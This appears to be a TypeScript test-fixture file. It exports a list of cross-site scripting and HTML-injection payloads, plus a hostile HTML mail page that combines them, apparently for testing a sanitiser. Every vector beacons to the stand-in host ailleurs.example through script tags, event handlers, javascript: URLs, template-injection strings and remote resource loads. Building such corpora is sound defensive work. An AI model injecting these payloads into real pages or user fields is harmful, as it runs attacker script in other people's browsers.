/** Where each of these would call, were any of them to run. */
export const ELSEWHERE = 'https://ailleurs.example'

const beacon = `fetch('${ELSEWHERE}/run')`

/** What people have put into names and messages to make a page do something. */
export const vectors: readonly string[] = [
  `<script>${beacon}</script>`,
  `<img src="${ELSEWHERE}/pixel.gif" onerror="${beacon}">`,
  `"><svg/onload=${beacon}>`,
  `</textarea></title></style><script>${beacon}</script>`,
  `<iframe srcdoc="<script>parent.${beacon}</script>"></iframe>`,
  `<a href="javascript:${beacon}" autofocus onfocus="${beacon}">cliquez</a>`,
  `javascript:${beacon}//`,
  `<style>@import '${ELSEWHERE}/style.css';</style><link rel="stylesheet" href="${ELSEWHERE}/style.css">`,
  `<meta http-equiv="refresh" content="0;url=${ELSEWHERE}/">`,
  `<details open ontoggle="${beacon}"><video src="${ELSEWHERE}/v.mp4" autoplay></video></details>`,
  `{{constructor.constructor("${beacon}")()}} \${${beacon}} <%= ${beacon} %>`,
  `[cliquez](javascript:${beacon}) ![](${ELSEWHERE}/md.png)`,
]

/** All of them in a mail that a program would call well made. */
export const hostilePage: string = `<html><head><base href="${ELSEWHERE}/"></head><body background="${ELSEWHERE}/bg.png" onload="${beacon}">
<p style="background:url(${ELSEWHERE}/css.png)">Bonjour, où est ma commande ?</p>
<form action="${ELSEWHERE}/form"><input name="q" autofocus onfocus="${beacon}"><button>ok</button></form>
<object data="${ELSEWHERE}/o.swf"></object><embed src="${ELSEWHERE}/e"><math><mtext><img src=x onerror="${beacon}"></mtext></math>
<svg><a xlink:href="javascript:${beacon}"><text>x</text></a><use href="${ELSEWHERE}/u.svg#x"/></svg>
${vectors.join('\n')}</body></html>`
